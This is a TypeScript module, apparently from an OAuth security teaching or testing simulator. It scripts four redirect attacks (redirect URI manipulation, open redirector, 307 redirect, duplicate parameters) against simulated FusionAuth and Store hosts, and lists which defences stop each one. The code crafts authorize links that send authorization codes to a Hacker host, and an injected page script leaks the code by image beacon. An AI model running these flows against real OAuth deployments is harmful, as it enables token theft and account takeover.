import type { Attack } from './attack.ts'
import { incidents } from './incidents.ts'
import { outcome, passwordsTold, tokensOfHacker } from './judging.ts'
import { collected, parameter, publicly, redeem, victimLogsIn } from './moves.ts'
import { goesTo } from './pages.ts'
import { known, notYetIn } from './preludes.ts'
import type { AttackContext } from '../engine/attack-port.ts'
import { isServerSide } from './shapes.ts'
import { textOf } from '../model/text.ts'

/** Attacks on the redirects that carry the code, or what else goes through the browser (RFC 9700 §4). */

/** The address of a login whose answer goes elsewhere, begun by nobody but the Hacker's link. */
const linkTo = (
  context: AttackContext,
  redirectUri: string,
  more: Readonly<Record<string, string>> = {},
): string => {
  const url = new URL('/oauth2/authorize', context.places.FusionAuth.origin)
  url.search = new URLSearchParams({
    client_id: publicly(context, 'client_id'),
    redirect_uri: redirectUri,
    response_type: 'code',
    scope: 'openid offline_access',
    ...more,
  }).toString()
  return url.href
}

/** The code that came to the Hacker's own host; null when none did. */
const codeAt = (context: AttackContext, origin: string): string | null => {
  const request = context.messages.findLast(
    ({ kind, http }) => kind === 'request' && http?.url.startsWith(origin),
  )
  const code = request === undefined ? null : parameter(request.http?.url ?? '', 'code')
  if (code !== null) context.note('reads-code', textOf('note.reads-code'))
  return code
}

const redirectManipulation: Attack = {
  id: 'redirect-manipulation',
  row: 'B4',
  incident: incidents.booking,
  tries: (shape) => isServerSide(shape) && shape.sso,
  weak: () => ({ 'exact-redirect-uris': false, 'client-authentication': false }),
  prelude: known,
  stops: () => ['exact-redirect-uris', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
  play: async (context) => {
    const { sibling } = context.places.Hacker
    const redirectUri = `${sibling}/oauth-callback`
    await context.lure(goesTo(linkTo(context, redirectUri)))
    const code = codeAt(context, redirectUri)
    if (code !== null) await redeem(context, code, { redirect_uri: redirectUri })
  },
  won: (trace) => outcome('redirect-manipulation', tokensOfHacker(trace)),
}

/** A link of the Store's own that leads on, to one place or to several at once. */
const leadsTo = ({ places }: AttackContext, ...to: readonly string[]): string => {
  const link = new URL('/go', places.Store.origin)
  for (const place of to) link.searchParams.append('to', place)
  return link.href
}

/**
 * The victim comes back from FusionAuth to the Store, by a link that leads on to the Hacker; the code
 * stands in the fragment, which a browser takes along (RFC 9110 §10.2.2).
 */
const throughStore = async (
  context: AttackContext,
  linkFor: (landing: string) => string,
): Promise<void> => {
  const link = linkFor(
    context.publish({
      html: '<!doctype html><html lang="en"><title>Thank you</title><script data-program="open-redirector">new Image().src = …</script></html>',
    }),
  )
  await context.lure(goesTo(linkTo(context, link, { response_mode: 'fragment' })))
  const found = new URLSearchParams(collected(context)?.slice(1) ?? '').get('code')
  if (found === null) return
  context.note('reads-code', textOf('note.reads-code'))
  await redeem(context, found, { redirect_uri: link })
}

const openRedirector: Attack = {
  id: 'open-redirector',
  row: 'B5',
  incident: incidents.covertRedirect,
  tries: (shape) => isServerSide(shape) && shape.sso,
  weak: () => ({
    'return-to-allow-list': false,
    'exact-redirect-uris': false,
    'client-authentication': false,
  }),
  prelude: known,
  stops: () => ['return-to-allow-list', 'exact-redirect-uris', 'client-authentication'],
  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
  play: (context) => throughStore(context, (landing) => leadsTo(context, landing)),
  won: (trace) => outcome('open-redirector', tokensOfHacker(trace)),
}

const redirect307: Attack = {
  id: 'redirect-307',
  row: 'B9',
  incident: incidents.fett,
  tries: isServerSide,
  weak: () => ({ 'redirect-after-login': 307 }),
  prelude: notYetIn,
  stops: () => [
    ['redirect-after-login', 302],
    ['redirect-after-login', 303],
  ],
  helpsNot: () => ['pkce', 'state', 'nonce', 'iss', ['same-site', 'strict']],
  play: victimLogsIn,
  won: (trace) => outcome('redirect-307', passwordsTold(trace)),
}

/** The list of own addresses is there, as usual: it is what the attack goes round. */
const duplicateParameters: Attack = {
  id: 'duplicate-parameters',
  row: 'B10',
  incident: incidents.keycloak,
  tries: (shape) => isServerSide(shape) && shape.sso,
  weak: () => ({
    'refuse-duplicates': false,
    'exact-redirect-uris': false,
    'client-authentication': false,
  }),
  prelude: known,
  stops: () => ['refuse-duplicates', 'exact-redirect-uris', 'client-authentication'],
  helpsNot: () => [
    'return-to-allow-list',
    'state',
    'nonce',
    'iss',
    'pkce',
    ['same-site', 'strict'],
  ],
  // What FusionAuth compares with has room for one “to”: the link with two of them is wrapped in another.
  play: (context) =>
    throughStore(context, (landing) =>
      leadsTo(context, leadsTo(context, context.places.Store.protectedPath, landing)),
    ),
  won: (trace) => outcome('duplicate-parameters', tokensOfHacker(trace)),
}

export const redirects: readonly Attack[] = [
  redirectManipulation,
  openRedirector,
  redirect307,
  duplicateParameters,
]
